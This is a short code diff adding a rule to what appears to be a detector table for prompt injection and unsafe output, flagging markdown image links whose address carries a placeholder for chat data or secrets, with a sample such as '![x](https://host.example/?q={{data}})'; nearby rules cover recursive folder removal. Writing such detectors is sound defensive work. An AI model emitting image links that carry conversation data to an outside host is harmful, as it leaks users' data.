@@ -112,6 +112,13 @@ const OTHER_RULES: readonly PlainRule[] = [
     "GRANT SELECT ON users TO app",
   ],
   [
+    "exfiltration/carrying-address",
+    "prompt_injection_detected",
+    "The address of a picture or link has a placeholder for the chat, or for secrets",
+    "![x](https://host.example/?q={{data}})",
+    "![x](https://host.example/?size={{width}})",
+  ],
+  [
     "shell/remove-recursively",
     "destructive_shell",
     "Folders are removed with all they hold",
